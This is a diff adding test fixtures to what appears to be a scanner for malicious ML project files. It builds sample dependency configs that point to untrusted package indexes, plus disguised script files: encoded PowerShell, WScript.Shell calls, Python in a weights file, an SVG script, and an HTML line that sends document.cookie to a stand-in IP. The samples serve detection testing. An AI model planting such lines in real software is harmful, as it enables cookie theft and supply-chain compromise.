@@ -20,7 +20,6 @@ file(
     "requirements.txt",
     "--extra-index-url https://packages.example.org/simple\nnumpy==1.26.4\n",
     "dependencies",
-    malicious=None,
 )
 file(
     "requirements.url",
@@ -35,7 +34,6 @@ file(
     "requirements.txt",
     "--trusted-host packages.example.org\nnumpy==1.26.4\n",
     "dependencies",
-    malicious=None,
 )
 file("requirements.unpinned", "requirements.txt", "torch\ntransformers\n", "dependencies", malicious=False)
 file(
@@ -53,6 +51,30 @@ file(
     "dependencies",
     malicious=False,
 )
+
+file("requirements.pip_conf", "pip.conf", "[global]\nextra-index-url =\n    https://packages.example.org/simple\n", "dependencies")
+file("requirements.pip_conf_plain", "pip.conf", "[global]\ntimeout = 60\n", "dependencies", malicious=False)
+file(
+    "requirements.conda_channel",
+    "environment.yml",
+    "channels:\n- http://203.0.113.9/conda\ndependencies:\n- torch\n",
+    "dependencies",
+)
+file(
+    "requirements.uv_index",
+    "pyproject.toml",
+    '[project]\nname = "x"\nversion = "1"\n[[tool.uv.index]]\nurl = "https://packages.example.org/simple"\n',
+    "dependencies",
+)
+file(
+    "requirements.uv_pytorch",
+    "pyproject.toml",
+    '[project]\nname = "x"\nversion = "1"\n[[tool.uv.index]]\nurl = "https://wheels.pytorch.org/cu121"\n',
+    "dependencies",
+    malicious=False,
+)
+file("requirements.bento_index", "bentofile.yaml", "service: x\npython:\n  index_url: http://203.0.113.9/simple\n", "dependencies")
+file("requirements.spacy_meta", "meta.json", json.dumps({"requirements": ["tool @ http://203.0.113.9/tool.whl"]}), "dependencies")
 
 # Text
 
@@ -72,6 +94,25 @@ file(
     "text",
     malicious=False,
 )
+file("text.powershell_encoded", "run.bat", "@echo off\r\npowershell -nop -enc ZQBjAGgAbwA=\r\n", "text")
+file("text.vbscript", "setup.vbs", 'Set s = CreateObject("WScript.Shell")\r\ns.Run "echo stannary"\r\n', "text")
+file("text.vbscript_spelled", "setup.vbs", "Execute Chr(83) & Chr(101) & Chr(116)\r\n", "text")
+file("text.script_host", "setup.js", 'var s = new ActiveXObject("WScript.Shell"); s.Run("echo stannary");\n', "text")
+file("text.page_cookies", "index.html", "<script>fetch('http://203.0.113.9/'+document.cookie)</script>\n", "text")
+file(
+    "text.picture_script",
+    "logo.svg",
+    "<svg xmlns='http://www.w3.org/2000/svg'><script>fetch('//203.0.113.9')</script></svg>\n",
+    "text",
+)
+file(
+    "text.page_plain",
+    "index.html",
+    "<html><script src='https://cdn.example.org/d3.js'></script><script>draw()</script></html>\n",
+    "text",
+    malicious=False,
+)
+file("text.python_as_weights", "weights.bin", "# weights\nimport os\nos.system('echo stannary')\n", "text")
 file("text.base64_pickle", "notes.txt", b"load me: " + base64.b64encode(PICKLE + b"." * 30) + b"\n", "text")
 file("text.hex_pickle", "notes.txt", PICKLE.hex().encode() + b"\n", "text")
 file("text.escaped_pickle", "notes.txt", "".join(f"\\x{b:02x}" for b in PICKLE), "text")
